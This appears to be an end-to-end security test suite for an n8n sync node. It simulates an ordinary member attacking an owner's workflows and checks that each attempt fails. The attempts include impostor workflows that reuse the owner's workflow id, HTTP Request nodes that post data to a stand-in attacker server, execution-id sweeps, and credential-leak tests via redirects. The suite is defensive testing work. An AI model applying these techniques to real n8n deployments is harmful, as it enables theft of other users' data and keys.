import { type IncomingHttpHeaders, createServer } from 'node:http';
import type { AddressInfo } from 'node:net';
import { join } from 'node:path';
import { text } from 'node:stream/consumers';
import { request } from 'undici';
import { Demo, type Workflow } from './harness/demo';
import { eventually } from './harness/eventually';
import { type User, isPortFree } from './harness/n8n';

/** What an ordinary member of an n8n can do to its owner's workflows, and where keys go; in a real n8n with two users. */

/** A server of somebody else, who notes what reaches it. */
class Elsewhere {
	readonly requests: { url: string; headers: IncomingHttpHeaders; body: string }[] = [];
	private readonly server = createServer((incoming, response) => {
		void text(incoming).then((body) => {
			this.requests.push({ url: incoming.url ?? '', headers: incoming.headers, body });
			response.writeHead(200, { 'content-type': 'application/json' }).end('{"accountId":"A1"}');
		});
	});

	async start(): Promise<this> {
		await new Promise<void>((resolve) => this.server.listen(0, '127.0.0.1', resolve));
		return this;
	}

	get url(): string {
		return `http://localhost:${(this.server.address() as AddressInfo).port}`;
	}

	close(): void {
		this.server.closeAllConnections();
		this.server.close();
	}
}

let demo: Demo;
let member: User;
let elsewhere: Elsewhere;
let victim: { id: string; workflow: Workflow };
/** The address of a person in one of the owner's events. */
let person: string;

beforeAll(async () => {
	let port = 5980;
	while (!((await isPortFree(port)) && (await isPortFree(port + 1)))) port += 2;
	demo = await Demo.start({ folder: join(__dirname, '../../.demo', `e2e-${port}`), port });
	demo.simulator.webhooks.timeoutMs = 60_000;
	member = await demo.n8n.addMember('member@example.com');
	elsewhere = await new Elsewhere().start();
	const workflow = demo.example((example) => {
		Object.assign(example, { settings: { executionOrder: 'v1', callerPolicy: 'none' } });
	});
	const id = await demo.n8n.addWorkflow(workflow);
	await demo.n8n.publish(id);
	victim = { id, workflow };
	// Its step fails, so that the event is not confirmed and stays with its execution.
	demo.simulator.webhooks.url = demo.webhookUrl(workflow);
	demo.sink.failures = 1;
	const contact = demo.simulator.subscribe();
	person = contact.email;
	await eventually(
		() => rows(),
		(found) => found[0]?.state === 'claimed',
	);
});
afterAll(async () => {
	elsewhere.close();
	await demo.stop();
});

/** The victim's events. */
const rows = () =>
	demo.queryLedger<{ state: string; subject: string; attempts: number; execution: string }>(
		`SELECT state, subject, attempts, execution FROM event WHERE stream LIKE '%/${victim.id}' AND stream NOT LIKE '%/sub/%'`,
	);

const node = (name: string, type: string, parameters: object = {}, more: object = {}) => ({
	id: `id of ${name}`,
	name,
	type,
	typeVersion: 1,
	position: [0, 0],
	parameters,
	...more,
});
const chain = (...names: string[]) =>
	Object.fromEntries(
		names.slice(0, -1).map((name, index) => [name, { main: [[{ node: names[index + 1], type: 'main', index: 0 }]] }]),
	);
const DEDUPE = 'n8n-nodes-hybrid-sync.syncDedupe';
const stored = (parameters: object) => ({ resource: 'event', ...parameters });

/** Sends what it gets to the attacker. */
const tell = (name: string, body: string) =>
	node(
		name,
		'n8n-nodes-base.httpRequest',
		{ method: 'POST', url: elsewhere.url, sendBody: true, specifyBody: 'json', jsonBody: body },
		{ typeVersion: 4.2 },
	);

/** JSON of a workflow that claims to be the victim's; `steps` follow each other. */
function impostor(...steps: ReturnType<typeof node>[]): string {
	const start = node(
		'Start',
		'n8n-nodes-base.executeWorkflowTrigger',
		{ inputSource: 'passthrough' },
		{ typeVersion: 1.1 },
	);
	const nodes = [start, ...steps];
	return JSON.stringify({
		id: victim.id,
		name: 'Looks like another one',
		nodes,
		connections: chain(...nodes.map(({ name }) => name)),
		// Not that of its caller.
		settings: { executionOrder: 'v1', callerPolicy: 'any' },
		staticData: {
			'node:Sync Polling Trigger': { breadcrumb: { resources: ['contacts'], readTo: {}, ledger: 'x', proof: '' } },
		},
	});
}

let paths = 0;
/** Runs steps in a workflow of the member's that is started by a webhook. @returns what it answered */
async function attack(...steps: ReturnType<typeof node>[]): Promise<{ status: number; body: string }> {
	const path = `attack-${++paths}`;
	const hook = node(
		'Hook',
		'n8n-nodes-base.webhook',
		{ path, httpMethod: 'POST', responseMode: 'lastNode' },
		{ typeVersion: 2, webhookId: path },
	);
	const nodes = [hook, ...steps];
	const workflow = {
		name: path,
		nodes,
		connections: chain(...nodes.map(({ name }) => name)),
		settings: { executionOrder: 'v1' },
	};
	const id = await member.addWorkflow(workflow);
	await member.publish(id);
	const response = await request(`${demo.n8n.url}/webhook/${path}`, { method: 'POST', body: '{}' });
	const body = await response.body.text();
	await member.unpublish(id);
	return { status: response.statusCode, body };
}

const call = (json: string, options: object = {}) =>
	node(
		'Call',
		'n8n-nodes-base.executeWorkflow',
		{ source: 'parameter', workflowJson: json, options },
		{ typeVersion: 1.2 },
	);

describe('S17 a workflow that is given as JSON under the id of the owner’s', () => {
	test('really runs under that id', async () => {
		const { body } = await attack(
			call(
				impostor(
					node(
						'Say',
						'n8n-nodes-base.set',
						{ assignments: { assignments: [{ id: 'a', name: 'me', type: 'string', value: '={{ $workflow.id }}' }] } },
						{ typeVersion: 3.4 },
					),
				),
			),
		);
		expect(JSON.parse(body)).toMatchObject({ me: victim.id });
	});

	test.each([
		['looks nothing up', { operation: 'lookUp', options: { withData: true } }],
		[
			'replays nothing',
			{ operation: 'replay', which: 'filter', through: 'here', filters: { types: 'getresponse.contact_added' } },
		],
		['forgets nothing', { operation: 'forget', dryRun: false, filters: {}, subject: 'contacts/c1' }],
	])('%s', async (_name, parameters) => {
		const before = rows();
		const { status, body } = await attack(call(impostor(node('Steal', DEDUPE, stored(parameters)))));
		expect(status).toBe(500);
		expect(body).not.toContain(person);
		expect(rows()).toEqual(before);
	});

	test('claims a value in a scope of its own', async () => {
		const value = { identifyBy: 'value', value: 'order-1', options: { scope: 'workflow' } };
		const { status } = await attack(call(impostor(node('Claim', DEDUPE, value))));
		expect(status).toBe(200);
		const streams = demo.queryLedger<{ stream: string }>(`SELECT stream FROM event WHERE path = 'item'`);
		expect(streams).toEqual([{ stream: expect.stringMatching(new RegExp(`/sub/${victim.id}$`)) as string }]);
	});

	test('neither after a wait, nor when the owner retries what failed', async () => {
		const before = rows();
		const steps = [
			tell('Tell', '={{ { resume: $execution.resumeUrl } }}'),
			node('Wait', 'n8n-nodes-base.wait', { resume: 'webhook', options: {} }, { typeVersion: 1.1, webhookId: 'wait' }),
			node('Steal', DEDUPE, stored({ operation: 'lookUp', options: { withData: true } })),
			tell('Show', '={{ $json }}'),
		];
		const seen = elsewhere.requests.length;
		await attack(call(impostor(...steps), { waitForSubWorkflow: false }));
		const [told] = await eventually(
			() => elsewhere.requests.slice(seen),
			(requests) => requests.length > 0,
		);
		const { resume } = JSON.parse(told?.body ?? '{}') as { resume: string };
		const waiting = async () => (await demo.n8n.executions(victim.id)).find(({ status }) => status === 'waiting');
		const execution = await eventually(waiting, (found) => found !== undefined);
		const resumed = await request(resume);
		await resumed.body.dump();
		const stateOf = async (id = '') => (await demo.n8n.executions(victim.id)).find((each) => each.id === id)?.status;
		await eventually(
			async () => await stateOf(execution?.id),
			(status) => status === 'error',
		);
		await demo.n8n.rest('POST', `/executions/${execution?.id}/retry`, { loadWorkflow: false }).catch(() => undefined);
		await eventually(
			async () =>
				(await demo.n8n.executions(victim.id)).filter(({ mode, status }) => mode === 'retry' && status === 'error')
					.length,
			(count) => count > 0,
		);
		expect(elsewhere.requests.slice(seen + 1)).toEqual([]);
		expect(rows()).toEqual(before);
	});
});

test('S18 execution ids that are tried one after the other give back nothing of the owner’s', async () => {
	const before = rows();
	expect(before).toMatchObject([{ state: 'claimed', attempts: 1 }]);
	const code = 'return Array.from({ length: 60 }, (_, id) => ({ json: { execution: { id } } }))';
	const sweep = [
		node('Ids', 'n8n-nodes-base.code', { jsCode: code }, { typeVersion: 2 }),
		node('Fail', DEDUPE, { operation: 'reportFailure', failed: 'execution' }),
	];
	const { status } = await attack(...sweep);
	expect(status).toBe(200);
	expect(rows()).toEqual(before);
});

describe('S20 a key goes to the configured origin and to no other', () => {
	const KEY = 'a-key-that-nobody-else-may-see';
	const test_ = async (data: object, type = 'hybridSyncHttp') =>
		await demo.n8n.rest<{ status: string; message: string }>('POST', '/credentials/test', {
			credentials: { id: '', name: 'c', type, data },
		});
	const leaked = () => elsewhere.requests.filter(({ headers, url }) => JSON.stringify([headers, url]).includes(KEY));

	async function redirecting<T>(use: (url: string) => Promise<T>): Promise<T> {
		const server = createServer((_incoming, response) => {
			response.writeHead(302, { location: `${elsewhere.url}/accounts` }).end();
		});
		await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve));
		try {
			return await use(`http://127.0.0.1:${(server.address() as AddressInfo).port}`);
		} finally {
			server.closeAllConnections();
			server.close();
		}
	}

	test.each([
		['bearer', { authentication: 'bearer', token: KEY }],
		['header', { authentication: 'header', name: 'X-API-Key', apiKey: KEY }],
		['query', { authentication: 'query', name: 'key', apiKey: KEY }],
	])('not by a redirect in the test of a credential: %s', async (_name, secret) => {
		const result = await redirecting(async (apiUrl) => await test_({ apiUrl, testPath: '/me', ...secret }));
		expect(result).toMatchObject({ status: 'Error', message: expect.stringContaining('redirect') as string });
		expect(leaked()).toEqual([]);
	});

	test('not by a redirect in the test of the GetResponse credential', async () => {
		const result = await redirecting(
			async (apiUrl) => await test_({ apiKey: KEY, region: 'custom', apiUrl, domain: '' }, 'hybridSyncGetResponseApi'),
		);
		expect(result).toMatchObject({ status: 'Error', message: expect.stringContaining('redirect') as string });
		expect(leaked()).toEqual([]);
	});

	test('not by a Test Path that is a whole address', async () => {
		const secret = { authentication: 'bearer', token: KEY };
		for (const testPath of [elsewhere.url, elsewhere.url.replace('http:', ''), `  ${elsewhere.url}/me`]) {
			const result = await test_({ apiUrl: demo.simulator.apiUrl, testPath, ...secret });
			expect(result).toMatchObject({
				status: 'Error',
				message: expect.stringContaining('only what comes after') as string,
			});
		}
		expect(leaked()).toEqual([]);
	});

	test.each([
		['hybridSyncHttp', { apiUrl: 'https://api.example.com', authentication: 'bearer', token: KEY }],
		['hybridSyncGetResponseApi', { apiKey: KEY, region: 'getresponse' }],
	])('not by an HTTP Request node that uses it: %s', async (type, data) => {
		const id = await demo.n8n.addCredential(type, type, data);
		const workflow = {
			name: 'HTTP Request',
			nodes: [
				node('Start', 'n8n-nodes-base.manualTrigger'),
				node(
					'Send',
					'n8n-nodes-base.httpRequest',
					{ url: elsewhere.url, authentication: 'predefinedCredentialType', nodeCredentialType: type },
					{ typeVersion: 4.2, credentials: { [type]: { id, name: type } } },
				),
			],
			connections: chain('Start', 'Send'),
			settings: { executionOrder: 'v1' },
		};
		// n8n does not even keep it.
		await expect(demo.n8n.addWorkflow(workflow)).rejects.toThrow('it is restricted to: n8n-nodes-hybrid-sync.');
		await expect(member.addWorkflow(workflow)).rejects.toThrow(/restricted|permission|access/);
	});
});
